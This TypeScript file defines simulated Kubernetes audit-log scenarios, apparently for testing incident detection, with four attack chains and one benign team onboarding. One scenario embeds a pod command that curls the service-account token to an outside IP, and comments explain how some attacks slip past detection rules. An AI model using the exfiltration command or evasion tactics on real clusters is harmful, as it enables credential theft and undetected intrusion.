// More scenarios no built-in rule names (issue 10), these for incident joining: a credential is
// made or granted by one identity and then used by another, from the same or a new address.
import { publicIP, saUser, workload } from './cluster.ts';
import { bindingBody, crbReason, rbReason } from './objects.ts';
import { KUBECTL_PEOPLE, newReplicaSet, startPods, type Play, type ScenarioDef } from './scenario-kit.ts';

const V1 = { apiVersion: 'v1' };
const APPS = { apiGroup: 'apps', apiVersion: 'v1' };
const RBAC = { apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' };

export const kubeletTokenMint: ScenarioDef = {
  id: 'kubelet-token-mint',
  label: 'malicious',
  techniques: ['T1528', 'T1550.001'],
  description: "Root on a node: the kubelet's own credentials, with kubectl, mint a token (TokenRequest) for the ingress controller's service account, whose pod runs there; the token is tried from the node, then reads other namespaces' secrets from a new public IP.",
  when: 'any',
  play(s) {
    const w = workload(s.c, 'ingress-nginx-controller');
    const pod = w.pods[0];
    const kubelet = { username: `system:node:${pod.node.name}`, groups: ['system:nodes', 'system:authenticated'] };
    const ua = `kubectl/${s.c.version} ${s.c.uaTail}`;
    // The node authorizer allows this: a kubelet may mint tokens for pods bound to its node.
    s.call({ verb: 'get', user: kubelet, ip: pod.node.ip, ua, ref: { resource: 'pods', namespace: w.namespace, name: pod.name, ...V1 }, reason: '' });
    const tokenReq = { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { audiences: ['https://kubernetes.default.svc.cluster.local'], expirationSeconds: 172800, boundObjectRef: { kind: 'Pod', apiVersion: 'v1', name: pod.name, uid: s.rng.uuid() } } };
    s.call({ verb: 'create', user: kubelet, ip: pod.node.ip, ua, ref: { resource: 'serviceaccounts', namespace: w.namespace, name: w.serviceAccount, subresource: 'token', ...V1 }, reqObj: tokenReq, reason: '' });
    s.wait(20, 180);
    const sa = saUser(w.namespace, w.serviceAccount);
    const reason = crbReason('ingress-nginx', 'ingress-nginx', 'ServiceAccount', `${w.serviceAccount}/${w.namespace}`);
    // `kubectl auth whoami`: SelfSubjectReview, which no access-review rule covers.
    s.call({ verb: 'create', user: sa, ip: pod.node.ip, ua, ref: { resource: 'selfsubjectreviews', apiGroup: 'authentication.k8s.io', apiVersion: 'v1' }, reqObj: { kind: 'SelfSubjectReview', apiVersion: 'authentication.k8s.io/v1' }, reason: crbReason('system:basic-user', 'system:basic-user', 'Group', 'system:authenticated') });
    s.call({ verb: 'get', user: sa, ip: pod.node.ip, ua, ref: { resource: 'secrets', namespace: w.namespace, name: w.secrets[0], ...V1 }, reason });
    s.wait(300, 2400);
    const ip = publicIP(s.rng);
    const far = 'kubectl/v1.30.1 (linux/amd64) kubernetes/6911225';
    s.call({ verb: 'list', user: sa, ip, ua: far, ref: { resource: 'ingresses', apiGroup: 'networking.k8s.io', apiVersion: 'v1' }, query: 'limit=500', reason });
    s.call({ verb: 'list', user: sa, ip, ua: far, ref: { resource: 'services', ...V1 }, query: 'limit=500', reason });
    for (const x of s.c.workloads.filter((y) => ['web', 'payments', 'data'].includes(y.namespace))) {
      if (!s.rng.chance(0.6)) continue;
      s.wait(2, 25);
      s.call({ verb: 'get', user: sa, ip, ua: far, ref: { resource: 'secrets', namespace: x.namespace, name: x.secrets[1], ...V1 }, reason });
    }
  },
};

export const saGrantedUsed: ScenarioDef = {
  id: 'sa-granted-used',
  label: 'malicious',
  techniques: ['T1136', 'T1098.006', 'T1552.007'],
  description: "An SRE, from the office, creates a service account in monitoring, a read-only ClusterRole that includes secrets and a ClusterRoleBinding to it, and starts a pod that posts the account's token out; an hour later the account reads secrets and lists workloads across namespaces from a public IP.",
  when: 'work',
  play(s) {
    const h = s.rng.pick(s.c.humans.filter((x) => x.user.groups?.includes('oidc:sre')));
    const ip = h.ips[0];
    const reason = crbReason('sre-admin', 'cluster-admin', 'Group', 'oidc:sre');
    const name = s.rng.pick(['grafana-reporter', 'alert-router', 'dashboard-sync']);
    const ns = 'monitoring';
    s.call({ verb: 'create', user: h.user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'serviceaccounts', namespace: ns, ...V1 }, reqObj: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name, namespace: ns } }, reason });
    // Read-only, so it looks like a dashboard's role; `secrets` among the resources is the point.
    const role = { kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name }, rules: [
      { apiGroups: [''], resources: ['namespaces', 'pods', 'services', 'configmaps', 'secrets'], verbs: ['get', 'list', 'watch'] },
      { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['get', 'list', 'watch'] },
    ] };
    s.call({ verb: 'create', user: h.user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'clusterroles', ...RBAC }, reqObj: role, received: true, reason });
    s.call({ verb: 'create', user: h.user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'clusterrolebindings', ...RBAC }, reqObj: bindingBody('ClusterRoleBinding', name, name, [{ kind: 'ServiceAccount', name, namespace: ns }]), received: true, reason });
    const drop = publicIP(s.rng);
    const image = 'docker.io/curlimages/curl:8.6.0';
    const command = ['sh', '-c', `curl -s -X POST --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://${drop}/v1/report; sleep infinity`];
    const labels = { app: name };
    const template = { metadata: { labels }, spec: { serviceAccountName: name, containers: [{ name: name.split('-')[0], image, command }] } };
    s.call({ verb: 'create', user: h.user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'deployments', namespace: ns, ...APPS }, reqObj: { kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name, namespace: ns, labels }, spec: { replicas: 1, selector: { matchLabels: labels }, template } }, query: 'fieldManager=kubectl-create&fieldValidation=Strict', reason });
    const rs = newReplicaSet(s, s.lastCall + 40_000, ns, name, template);
    startPods(s, s.lastCall + 120_000, { namespace: ns, ownerKind: 'ReplicaSet', ownerName: rs, serviceAccount: name, image, replicas: 1, pod: { command, labels } });
    s.wait(1800, 5400);
    const user = saUser(ns, name);
    const away = publicIP(s.rng);
    const ua = 'Go-http-client/2.0';
    const granted = crbReason(name, name, 'ServiceAccount', `${name}/${ns}`);
    for (const resource of ['namespaces', 'pods', 'configmaps']) {
      s.call({ verb: 'list', user, ip: away, ua, ref: { resource, ...V1 }, query: 'limit=500', reason: granted });
    }
    s.call({ verb: 'list', user, ip: away, ua, ref: { resource: 'deployments', ...APPS }, query: 'limit=500', reason: granted });
    for (const w of s.c.workloads.filter((x) => ['payments', 'data', 'web'].includes(x.namespace))) {
      s.wait(1, 10);
      s.call({ verb: 'get', user, ip: away, ua, ref: { resource: 'secrets', namespace: w.namespace, name: w.secrets[1], ...V1 }, reason: granted });
    }
  },
};

export const stolenKubeconfigRecon: ScenarioDef = {
  id: 'stolen-kubeconfig-recon',
  label: 'malicious',
  techniques: ['T1078', 'T1613'],
  description: "A developer's kubeconfig, from a new public IP and another OS's kubectl: discovery, a look around the one namespace it may read (config, logs), then a slow walk through namespaces it never touched, each refused.",
  when: 'any',
  play(s) {
    const h = s.rng.pick(s.c.humans.filter((x) => !x.user.groups?.includes('oidc:sre') && x.namespaces.length === 1));
    const home = h.namespaces[0];
    const ip = publicIP(s.rng);
    const ua = 'kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350';
    const mine = rbReason('developers', 'edit', home, 'Group', 'oidc:developers');
    const discovery = crbReason('system:discovery', 'system:discovery', 'Group', 'system:authenticated');
    s.call({ verb: 'get', user: h.user, ip, ua, path: '/api', query: 'timeout=32s', reason: discovery });
    s.call({ verb: 'get', user: h.user, ip, ua, path: '/apis', query: 'timeout=32s', reason: discovery });
    s.call({ verb: 'list', user: h.user, ip, ua, ref: { resource: 'namespaces', ...V1 }, query: 'limit=500', code: 403 });
    const ws = s.c.workloads.filter((w) => w.namespace === home);
    for (const [resource, g] of [['pods', V1], ['deployments', APPS], ['services', V1], ['configmaps', V1], ['ingresses', { apiGroup: 'networking.k8s.io', apiVersion: 'v1' }]] as const) {
      s.call({ verb: 'list', user: h.user, ip, ua, ref: { resource, namespace: home, ...g }, query: 'limit=500', reason: mine });
    }
    const w = s.rng.pick(ws);
    s.call({ verb: 'get', user: h.user, ip, ua, ref: { resource: 'configmaps', namespace: home, name: w.configmaps[0], ...V1 }, reason: mine });
    s.call({ verb: 'get', user: h.user, ip, ua, ref: { resource: 'pods', namespace: home, name: w.pods[0].name, subresource: 'log', ...V1 }, query: `container=${w.name.split('-')[0]}&tailLines=2000`, reason: mine });
    // Refusals spaced out and few (six): a walk, not the burst the forbidden-burst rule counts.
    const others = s.c.namespaces.filter((n) => n !== home && !n.startsWith('kube-') && n !== 'default');
    for (let i = 0; i < 5 && others.length > 0; i++) {
      const ns = others.splice(s.rng.int(0, others.length - 1), 1)[0];
      s.wait(15, 90);
      s.call({ verb: 'list', user: h.user, ip, ua, ref: { resource: 'pods', namespace: ns, ...V1 }, query: 'limit=500', code: 403 });
    }
  },
};

export const ciNightStaging: ScenarioDef = {
  id: 'ci-night-staging',
  label: 'malicious',
  techniques: ['T1552.007'],
  description: 'A poisoned CI job at night: the deployer token, from a CI runner with its usual kubectl, reads every configmap and secret of web and payments one by one (it normally reads deployments and patches in working hours).',
  when: 'night',
  play(s) {
    const user = saUser('ci', 'deployer');
    const ip = s.rng.pick(s.c.ciIPs);
    for (const ns of ['web', 'payments']) {
      const reason = `RBAC: allowed by RoleBinding "deployer/${ns}" of ClusterRole "edit" to ServiceAccount "deployer/ci"`;
      s.call({ verb: 'list', user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'configmaps', namespace: ns, ...V1 }, query: 'limit=500', reason });
      for (const w of s.c.workloads.filter((x) => x.namespace === ns)) {
        for (const name of w.configmaps) s.call({ verb: 'get', user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'configmaps', namespace: ns, name, ...V1 }, reason });
        for (const name of w.secrets) s.call({ verb: 'get', user, ip, ua: KUBECTL_PEOPLE, ref: { resource: 'secrets', namespace: ns, name, ...V1 }, reason });
      }
    }
  },
};

export const teamOnboarding: ScenarioDef = {
  id: 'team-onboarding',
  label: 'benign',
  techniques: [],
  description: "Benign newcomer: an SRE onboards the search team (namespace, quota, service account, bindings); the team's CI, from hosted runners never seen before, installs its Helm chart (lots of creates, an image from a new registry); a new engineer looks at the pods.",
  when: 'work',
  play(s) {
    const sre = s.rng.pick(s.c.humans.filter((x) => x.user.groups?.includes('oidc:sre')));
    const admin = crbReason('sre-admin', 'cluster-admin', 'Group', 'oidc:sre');
    const ns = 'search';
    const say = (verb: string, ref: Parameters<Play['call']>[0]['ref'], reqObj?: unknown): void => {
      s.call({ verb, user: sre.user, ip: sre.ips[0], ua: KUBECTL_PEOPLE, ref, reqObj, reason: admin, received: verb === 'create' && ref?.apiGroup === RBAC.apiGroup });
    };
    say('create', { resource: 'namespaces', ...V1 }, { kind: 'Namespace', apiVersion: 'v1', metadata: { name: ns, labels: { team: 'search', 'pod-security.kubernetes.io/enforce': 'baseline' } } });
    say('create', { resource: 'resourcequotas', namespace: ns, ...V1 }, { kind: 'ResourceQuota', apiVersion: 'v1', metadata: { name: 'compute', namespace: ns }, spec: { hard: { 'requests.cpu': '24', 'requests.memory': '96Gi', pods: '60' } } });
    say('create', { resource: 'serviceaccounts', namespace: ns, ...V1 }, { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'deployer', namespace: ns } });
    say('create', { resource: 'rolebindings', namespace: ns, ...RBAC }, bindingBody('RoleBinding', 'deployer', 'edit', [{ kind: 'ServiceAccount', name: 'deployer', namespace: ns }], ns));
    say('create', { resource: 'rolebindings', namespace: ns, ...RBAC }, bindingBody('RoleBinding', 'search-team', 'edit', [{ apiGroup: RBAC.apiGroup, kind: 'Group', name: 'oidc:search-team' }], ns));
    s.wait(600, 3600);

    // GitHub-hosted runners come from Azure address space, a different one each job.
    const runners = [0, 1].map(() => `20.${s.rng.int(42, 172)}.${s.rng.int(0, 255)}.${s.rng.int(1, 254)}`);
    const ci = saUser(ns, 'deployer');
    const helm = 'helm/v3.14.2 (linux/amd64) kubernetes/v0.0.0';
    const ciReason = rbReason('deployer', 'edit', ns, 'ServiceAccount', `deployer/${ns}`);
    const api = `registry.example.com/search/search-api:${s.rng.hex(7)}`;
    const opensearch = 'docker.io/opensearchproject/opensearch:2.12.0';
    const install = (runner: string): void => {
      const act = (verb: string, ref: Parameters<Play['call']>[0]['ref'], reqObj?: unknown, query?: string): void => {
        s.call({ verb, user: ci, ip: runner, ua: helm, ref, reqObj, query, reason: ciReason });
      };
      act('list', { resource: 'secrets', namespace: ns, ...V1 }, undefined, 'labelSelector=name%3Dsearch%2Cowner%3Dhelm');
      act('create', { resource: 'configmaps', namespace: ns, ...V1 });
      act('create', { resource: 'secrets', namespace: ns, ...V1 });
      for (const svc of ['search-api', 'opensearch', 'opensearch-headless']) {
        act('create', { resource: 'services', namespace: ns, ...V1 }, { kind: 'Service', apiVersion: 'v1', metadata: { name: svc, namespace: ns }, spec: { type: 'ClusterIP', ...(svc.endsWith('headless') ? { clusterIP: 'None' } : {}), ports: [{ port: svc === 'search-api' ? 8080 : 9200 }] } });
      }
      const apiLabels = { app: 'search-api' };
      act('create', { resource: 'deployments', namespace: ns, ...APPS }, { kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name: 'search-api', namespace: ns }, spec: { replicas: 2, selector: { matchLabels: apiLabels }, template: { metadata: { labels: apiLabels }, spec: { containers: [{ name: 'search', image: api }] } } } });
      const rs = newReplicaSet(s, s.lastCall + 40_000, ns, 'search-api');
      startPods(s, s.lastCall + 150_000, { namespace: ns, ownerKind: 'ReplicaSet', ownerName: rs, serviceAccount: 'default', image: api, replicas: 2, pod: { labels: apiLabels } });
      const osLabels = { app: 'opensearch' };
      act('create', { resource: 'statefulsets', namespace: ns, ...APPS }, { kind: 'StatefulSet', apiVersion: 'apps/v1', metadata: { name: 'opensearch', namespace: ns }, spec: { replicas: 3, serviceName: 'opensearch-headless', selector: { matchLabels: osLabels }, template: { metadata: { labels: osLabels }, spec: { containers: [{ name: 'opensearch', image: opensearch }] } } } });
      startPods(s, s.lastCall + 150_000, { namespace: ns, ownerKind: 'StatefulSet', ownerName: 'opensearch', serviceAccount: 'default', image: opensearch, replicas: 3, pod: { labels: osLabels, resources: { requests: { cpu: '1', memory: '4Gi' } } } });
      act('create', { resource: 'poddisruptionbudgets', namespace: ns, apiGroup: 'policy', apiVersion: 'v1' }, { kind: 'PodDisruptionBudget', apiVersion: 'policy/v1', metadata: { name: 'opensearch', namespace: ns }, spec: { maxUnavailable: 1, selector: { matchLabels: osLabels } } });
      act('create', { resource: 'ingresses', namespace: ns, apiGroup: 'networking.k8s.io', apiVersion: 'v1' }, { kind: 'Ingress', apiVersion: 'networking.k8s.io/v1', metadata: { name: 'search-api', namespace: ns }, spec: { ingressClassName: 'nginx', rules: [{ host: 'search.internal.example.com' }] } });
      act('create', { resource: 'secrets', namespace: ns, ...V1 });
      for (let i = s.rng.int(4, 8); i > 0; i--) {
        s.wait(2, 15);
        act('get', { resource: 'deployments', namespace: ns, name: 'search-api', ...APPS });
      }
    };
    install(runners[0]);
    s.wait(900, 2400);
    // The follow-up job only reads: `helm status` from the other runner.
    s.call({ verb: 'list', user: ci, ip: runners[1], ua: helm, ref: { resource: 'secrets', namespace: ns, ...V1 }, query: 'labelSelector=name%3Dsearch%2Cowner%3Dhelm', reason: ciReason });
    s.call({ verb: 'get', user: ci, ip: runners[1], ua: helm, ref: { resource: 'statefulsets', namespace: ns, name: 'opensearch', ...APPS }, reason: ciReason });

    const newcomer = { username: 'erin@example.com', groups: ['oidc:search-team', 'system:authenticated'] };
    const home = `100.64.${s.rng.int(0, 15)}.${s.rng.int(2, 250)}`;
    const teamReason = rbReason('search-team', 'edit', ns, 'Group', 'oidc:search-team');
    s.wait(120, 900);
    for (const [verb, resource, sub] of [['list', 'pods', undefined], ['list', 'events', undefined], ['get', 'pods', 'log'], ['list', 'pods', undefined]] as const) {
      const name = sub ? 'opensearch-0' : undefined;
      s.call({ verb, user: newcomer, ip: home, ua: KUBECTL_PEOPLE, ref: { resource, namespace: ns, name, subresource: sub, ...V1 }, query: sub ? 'container=opensearch&tailLines=100' : 'limit=500', reason: teamReason });
      s.wait(5, 60);
    }
  },
};
